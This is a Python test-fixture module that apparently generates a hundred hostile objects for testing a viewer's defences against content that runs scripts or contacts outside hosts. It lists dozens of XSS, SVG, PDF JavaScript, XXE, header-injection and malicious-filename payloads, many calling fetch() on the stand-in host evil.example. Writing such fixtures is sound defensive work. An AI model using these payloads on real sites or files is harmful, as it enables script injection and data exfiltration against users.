"""A hundred objects whose content, type or name tries to run a script, or to send a request."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

EVIL: Final = "http://evil.example"
"""Host that no browser may contact."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """An object. `path` is below its stage; `content_type` is that of its sidecar."""

    path: str
    content_type: str
    data: bytes


_SCRIPTS: Final = (
    "<script>parent.owned=1;fetch('{0}/s')</script>",
    "<script src={0}/x.js></script>",
    "<img src=x onerror=fetch('{0}/i')>",
    "<img src={0}/pixel.png>",
    "<svg onload=fetch('{0}/v')>",
    "<svg><script>fetch('{0}')</script></svg>",
    "<svg><image href={0}/a.png /></svg>",
    "<iframe src={0}></iframe>",
    "<iframe srcdoc='<script>fetch(`{0}`)</script>'></iframe>",
    "<object data={0}/o.swf></object>",
    "<embed src={0}/e>",
    "<link rel=stylesheet href={0}/c.css>",
    "<link rel=prefetch href={0}/p>",
    "<link rel=icon href={0}/f.ico>",
    "<style>@import '{0}/i.css'; body{{background:url({0}/b)}}</style>",
    "<meta http-equiv=refresh content='0;url={0}/m'>",
    "<base href={0}/>",
    "<form action={0}><input autofocus onfocus=this.form.submit()></form>",
    "<video src={0}/v autoplay></video>",
    "<audio src={0}/a autoplay></audio>",
    "<a href=javascript:fetch('{0}') id=x>x</a><script>x.click()</script>",
    "<details open ontoggle=fetch('{0}')>x</details>",
    "<math><mtext><style><img src=x onerror=fetch('{0}')></style></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=fetch(`{0}`)>'></noscript>",
    "<template><script>fetch('{0}')</script></template><body onload=fetch('{0}')>",
    "--><script>fetch('{0}')</script><!--",
    "</pre></textarea></title></style></script><script>fetch('{0}')</script>",
    "]]><script>fetch('{0}')</script>",
    "{{{{7*7}}}}{{% raw %}}<script>fetch('{0}')</script>",
    "\u2028<script>fetch('{0}')</script>\u202e",
)
_MARKDOWN: Final = (
    "[x](javascript:fetch('{0}'))",
    "[x](JaVaScRiPt:fetch('{0}'))",
    "[x](data:text/html,<script>fetch('{0}')</script>)",
    "[x](vbscript:msgbox)",
    "[x](&#106;avascript:fetch('{0}'))",
    "![x]({0}/i.png)",
    "![x](javascript:1)",
    "[![x]({0}/i.png)](javascript:1)",
    "<javascript:fetch('{0}')>",
    "[x]({0} \"onmouseover=fetch('{0}')\")",
    "[x]: javascript:fetch('{0}')\n\n[x]",
    "```\"><script>fetch('{0}')</script>\nx\n```",
    "|<img src=x onerror=1>|\n|:-:|\n|<script>1</script>|",
    "[a](//evil.example/x)",
    "[a](/replay?from_stage=x)",
    "<style>*{{background:url({0})}}</style>",
    "`<script>fetch('{0}')</script>`",
    "# <script>fetch('{0}')</script>",
    "- > 1. <iframe src={0}>",
    "[x](<javascript:fetch('{0}')>)",
)
_SVG: Final = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{0}')\"/>",
    "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('{0}')</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><script href='{0}/x.js'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='{0}/a.png' width='9' height='9'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><use href='{0}/a.svg#a'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><style>@import '{0}/a.css';</style></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe src='{0}'/></foreignObject></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><a href='javascript:1'><text y='9'>x</text></a></svg>",
    "<?xml version='1.0'?><?xml-stylesheet href='{0}/x.xsl' type='text/xsl'?><svg/>",
    "<!DOCTYPE svg [<!ENTITY x SYSTEM '{0}/x'>]><svg>&x;</svg>",
)
_PDF: Final = (
    "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL('{0}'))>>>>endobj",
    "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({0})>>>>endobj",
    "%PDF-1.4\n1 0 obj<</S/SubmitForm/F({0})>>endobj",
    "%PDF-1.4\n<script>fetch('{0}')</script>",
    "<script>fetch('{0}')</script>",
)
_NAMES: Final = (
    "<script>fetch(1)<",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "a&lt;script&gt;.html",
    "{{7*7}}.txt",
    "${7*7}.txt",
    "%3Cscript%3E.html",
    "\u202egnp.exe",
    "\u2028line",
    "a;filename=evil.html",
    'a"; filename="evil.html',
    "?key=x&view=text#a",
    "data:text,html",
    "</title><script>1<",
    "a'b`c.svg",
    "𝓊𝓃𝒾.md",
    "‏hebrew‎.md",
    " leading",
    "%0d%0aSet-Cookie: a=b",
)
_TYPES: Final = (
    "text/html; charset=utf-7",
    'text/html;charset="x"',
    "TEXT/HTML",
    "application/xhtml+xml",
    "text/xml",
    "application/xml",
    "image/svg+xml; a=b",
    "text/javascript",
    "application/javascript",
    "text/css",
    "multipart/x-mixed-replace",
    "application/x-shockwave-flash",
    "application/octet-stream",
    "image/png",
    "application/wasm",
)


def _all() -> Iterator[Hostile]:
    for n, text in enumerate(_SCRIPTS):
        data = text.format(EVIL).encode()
        yield Hostile(f"html/{n}.html", "text/html", data)
    for n, text in enumerate(_MARKDOWN):
        yield Hostile(f"markdown/{n}.md", "text/markdown", text.format(EVIL).encode())
    for n, text in enumerate(_SVG):
        yield Hostile(f"svg/{n}.svg", "image/svg+xml", text.format(EVIL).encode())
    for n, text in enumerate(_PDF):
        yield Hostile(f"pdf/{n}.pdf", "application/pdf", text.format(EVIL).encode())
    html = b"<script>fetch('http://evil.example/t')</script>"
    for n, kind in enumerate(_TYPES):
        yield Hostile(f"types/{n}", kind, html)
    for name in _NAMES:
        yield Hostile(f"names/{name}", "text/html", html)


OBJECTS: Final = tuple(_all())
